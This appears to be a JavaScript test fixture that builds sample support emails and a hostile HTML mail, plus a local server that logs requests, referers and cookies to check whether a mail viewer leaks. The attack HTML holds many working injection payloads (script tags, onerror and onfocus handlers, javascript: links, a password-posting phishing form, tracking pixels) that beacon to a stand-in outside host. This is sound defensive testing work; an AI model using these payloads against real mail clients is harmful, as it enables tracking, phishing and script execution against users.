// Mails for the tests, as customers and attackers write them, and a server on the internet that notes who calls.

import { once } from "node:events";
import { createServer } from "node:http";

/** A green picture, 160 by 100. */
export const PICTURE = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAKAAAABkCAIAAACO1KzYAAAAsklEQVR42u3RQQ0AAAjEsLOEHETg/4sNQppMwZqa1uNiAWABFmABFmABFmDAAizAAizAAizAgAVYgAVYgAVYgAUYsAALsAALsAALMGABFmABFmABFmDAAizAAizAAizAAgxYgAVYgAVYgAUYsAALsAALsAALMGAXAAuwAAuwAAuwAAMWYAEWYAEWYAEGLMACLMACLMACLMCABViABViABViAAQuwAAuwAAuwAAMWYAHWvRa/KVEFOeW6zAAAAABJRU5ErkJggg==",
  "base64",
);

/** A mail of one part. */
export function simple({ from, subject, id, type = "text/plain", body }) {
  return `From: ${from}
To: support@shop.example
Subject: ${subject}
Message-ID: <${id}@mail.example>
Date: ${new Date().toUTCString().replace("GMT", "+0000")}
MIME-Version: 1.0
Content-Type: ${type}; charset=utf-8

${body}
`;
}

/** A mail with text, HTML and files; `files` have `name`, `type`, `content` and perhaps `cid`. */
export function whole({ text, html, files = [], ...head }) {
  const part = ({ name, type, content, cid }) => `--mixed
Content-Type: ${type}; name="${name}"
Content-Disposition: ${cid ? "inline" : "attachment"}; filename="${name}"
${cid ? `Content-ID: <${cid}>\n` : ""}Content-Transfer-Encoding: base64

${Buffer.from(content).toString("base64").replace(/(.{76})/g, "$1\n")}
`;
  const body = `--mixed
Content-Type: multipart/alternative; boundary=both

--both
Content-Type: text/plain; charset=utf-8

${text}
--both
Content-Type: text/html; charset=utf-8

${html}
--both--
${files.map(part).join("")}--mixed--`;
  return simple({ ...head, type: "multipart/mixed; boundary=mixed", body }).replace("=mixed; charset=utf-8", "=mixed");
}

/** HTML that tries whatever mails have tried. */
export function attack(elsewhere) {
  const act = (name) => `parent.document.title='broken';new Image().src='${elsewhere}/${name}'`;
  return `<html><head>
<title>Broken</title><base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/meta">
<link rel="stylesheet" href="${elsewhere}/link.css">
<style>@import url(${elsewhere}/import.css); body{background:url(${elsewhere}/body.png)} .cover{position:fixed;inset:0;z-index:99999;background:red}</style>
<script>${act("script")}</script></head>
<body onload="${act("onload")}" background="${elsewhere}/background.png">
<p style="color: rgb(170, 0, 0)">My <b>tent pole</b> is broken.</p>
<div class="cover" style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:url(${elsewhere}/style.png) red">You have won</div>
<img src="x" onerror="${act("onerror")}">
<img src="${elsewhere}/pixel.gif" width="1" height="1" alt="">
<img srcset="${elsewhere}/srcset.png 2x"><picture><source srcset="${elsewhere}/picture.png"></picture>
<a href="javascript:${act("link")}">Track my parcel</a>
<a href="https://carrier.example/parcel" target="_top">The parcel</a>
<form action="${elsewhere}/form" method="post"><input name="password" value="x"><button>Log in again</button></form>
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>${act("srcdoc")}</script>"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<video autoplay poster="${elsewhere}/poster.png" src="${elsewhere}/video.mp4"></video><audio autoplay src="${elsewhere}/audio.ogg"></audio>
<svg onload="${act("svg")}"><script>${act("svg-script")}</script><image href="${elsewhere}/svg.png"/></svg>
<details open ontoggle="${act("toggle")}"><summary>More</summary></details>
<input autofocus onfocus="${act("focus")}"><math><mtext><img src="x" onerror="${act("math")}"></mtext></math>
</body></html>`;
}

/** A server that answers every call with a picture, and keeps what was called. */
export class Elsewhere {
  calls = [];

  static async begin() {
    const elsewhere = new Elsewhere();
    elsewhere.server = createServer((request, answer) => {
      elsewhere.calls.push({ path: request.url, referer: request.headers.referer, cookie: request.headers.cookie });
      answer.writeHead(200, { "Content-Type": "image/png" }).end(PICTURE);
    }).listen(0, "127.0.0.1");
    await once(elsewhere.server, "listening");
    elsewhere.origin = `http://127.0.0.1:${elsewhere.server.address().port}`;
    return elsewhere;
  }

  async remove() {
    this.server.closeAllConnections();
    this.server.close();
    await once(this.server, "close");
  }
}
